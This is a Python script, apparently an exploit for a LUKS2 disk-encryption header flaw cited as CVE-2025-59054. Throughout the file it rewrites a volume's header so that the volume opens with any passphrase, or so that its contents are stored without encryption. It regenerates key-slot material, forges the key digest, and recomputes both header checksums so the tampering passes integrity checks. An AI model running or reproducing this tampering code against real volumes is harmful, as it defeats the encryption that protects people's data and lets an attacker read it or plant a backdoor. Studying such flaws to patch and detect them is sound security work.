"""Makes of a LUKS2 header one that anybody can make who knows a disk's UUID: it opens by any key, or shows its content as it lies there.

Written from the LUKS2 on-disk format specification; the attack is that of CVE-2025-59054.
"""

import base64
import hashlib
import json
import os

BINARY = 4096        # bytes before the JSON area of either copy
CHECKSUM = 448       # where the checksum lies in a copy, 64 bytes
STRIPE = 32          # of SHA-256


def open_by_any_key(path):
    """Key slot 0 of `path` gets the null cipher, and holds a new volume key as it is."""
    header = _read(path)
    slot, digest = header["keyslots"]["0"], header["digests"]["0"]
    size, stripes = slot["key_size"], slot["af"]["stripes"]
    material = os.urandom(size * stripes)
    with open(path, "r+b") as file:
        file.seek(int(slot["area"]["offset"]))
        file.write(material)
    slot["area"]["encryption"] = "cipher_null-ecb"
    slot["af"]["hash"] = digest["hash"] = "sha256"
    key = _merged(material, size, stripes)
    salt = base64.b64decode(digest["salt"])
    digest["digest"] = base64.b64encode(hashlib.pbkdf2_hmac("sha256", key, salt, digest["iterations"])).decode()
    _write(path, header)


def show_plain(path):
    """The right key still opens `path`, and what it opens is not encrypted."""
    header = _read(path)
    header["segments"]["0"]["encryption"] = "cipher_null-ecb"
    _write(path, header)


def _merged(material, size, stripes):
    """What the anti-forensic splitter hides."""
    block = bytes(size)
    for number in range(stripes):
        stripe = material[number * size:(number + 1) * size]
        block = bytes(a ^ b for a, b in zip(block, stripe))
        if number < stripes - 1:
            block = b"".join(hashlib.sha256((at // STRIPE).to_bytes(4, "big") + block[at:at + STRIPE]).digest()[:len(block[at:at + STRIPE])]
                             for at in range(0, size, STRIPE))
    return block


def _size(file):
    file.seek(8)
    return int.from_bytes(file.read(8), "big")


def _read(path):
    with open(path, "rb") as file:
        size = _size(file)
        file.seek(BINARY)
        return json.loads(file.read(size - BINARY).split(b"\0")[0])


def _write(path, header):
    text = json.dumps(header, separators=(",", ":")).encode()
    with open(path, "r+b") as file:
        size = _size(file)
        for offset in (0, size):
            file.seek(offset)
            copy = bytearray(file.read(size))
            copy[BINARY:] = text.ljust(size - BINARY, b"\0")
            copy[CHECKSUM:CHECKSUM + 64] = bytes(64)
            copy[CHECKSUM:CHECKSUM + 32] = hashlib.sha256(copy).digest()
            file.seek(offset)
            file.write(copy)
